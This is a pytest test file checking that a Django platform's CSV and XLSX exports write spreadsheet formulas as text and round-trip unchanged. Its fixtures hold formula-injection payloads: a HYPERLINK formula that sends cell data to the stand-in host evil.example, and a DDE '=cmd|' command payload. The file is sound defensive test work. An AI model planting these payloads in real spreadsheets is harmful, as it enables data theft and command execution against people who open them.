"""Formula injection: values a spreadsheet would run (=HYPERLINK(…), =cmd|…, +…, -…, @…) are written as
text in every CSV and XLSX the platform produces, and an exported file imported again is unchanged."""

import io
import zipfile

import pytest
from django.core.management import call_command

from coopreview.core.spreadsheet_safe import csv_import_value, csv_value
from coopreview.lineage import services as lineage_services
from coopreview.recommendations.enums import Visibility
from coopreview.recommendations.models import Recommendation

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
CMD = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value", [HYPERLINK, CMD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "'quoted", "''=x", "plain", "", "a=b"]
)
def test_csv_value_then_import_value_is_the_identity(value):
    written = csv_value(value)

    assert csv_import_value(written) == value
    assert not written.startswith(("=", "+", "-", "@", "\t"))


@pytest.fixture
def hostile(orgs, source, editor) -> dict[str, Recommendation]:
    def rec(ref: str, text: str) -> Recommendation:
        r = Recommendation.objects.create(
            source=source, reference=ref, text=text, visibility=Visibility.PUBLIC
        )
        r.addressees.set([orgs["ICC"]])
        return r

    a, b = rec("1", HYPERLINK), rec("2", CMD)
    c = rec("3", "@SUM(1+1)")
    c.text_fr = "+1+1"
    c.save()
    lineage_services.link_create(by=editor, from_pk=a.pk, to_pk=b.pk, link_type="overlaps", reason="-2+3")
    return {"a": a, "b": b, "c": c}


def _sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return " ".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")
        )


def test_recommendation_csv_export_writes_formulas_as_text_and_imports_back_unchanged(hostile, tmp_path):
    path = tmp_path / "export.csv"

    call_command("export", "--format", "csv", "-o", str(path))
    out = io.StringIO()
    call_command("import", str(path), "--dry-run", stdout=out)

    body = path.read_text()
    assert "'=HYPERLINK(" in body and "'=cmd|" in body and "'@SUM(1+1)" in body and "'+1+1" in body
    assert "\n=" not in body and ",=" not in body and ',"=' not in body
    assert "0 new, 0 changed, 3 unchanged" in out.getvalue()


def test_recommendation_xlsx_export_has_no_formula_and_imports_back_unchanged(hostile, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "export.xlsx"

    call_command("export", "--format", "xlsx", "-o", str(path))
    out = io.StringIO()
    call_command("import", str(path), "--dry-run", stdout=out)

    xml = _sheet_xml(path.read_bytes())
    assert "<f>" not in xml and "<f " not in xml
    cells = {c.value: c for row in load_workbook(path).active.iter_rows() for c in row if c.value}
    assert cells[HYPERLINK].data_type == "s" and cells[HYPERLINK].quotePrefix
    assert cells[CMD].data_type == "s"
    assert "0 new, 0 changed, 3 unchanged" in out.getvalue()


@pytest.mark.parametrize("report", ["annex", "progress", "sheet"])
def test_report_xlsx_files_have_no_formula(client, hostile, editor, report):
    client.force_login(editor)
    extra = "&reference=1" if report == "sheet" else ""

    response = client.get(f"/reports/download/?report={report}&format=xlsx&title=%3D1%2B1{extra}")

    assert response.status_code == 200
    xml = _sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK(" in xml  # the text itself is kept, as text


def test_lineage_csv_export_writes_formulas_as_text(client, hostile):
    response = client.get("/lineage/?format=csv")

    body = response.content.decode()
    assert response.status_code == 200
    assert ",'-2+3," in body
    assert ",-2+3," not in body


def test_lineage_csv_export_imports_back_with_the_same_reason(hostile, editor, tmp_path):
    from coopreview.lineage.models import Link

    path = tmp_path / "links.csv"
    call_command("link", "export", "--output", str(path))
    Link.objects.all().delete()

    call_command("link", "--user", "editor", "import", str(path))

    assert Link.objects.get().reason == "-2+3"
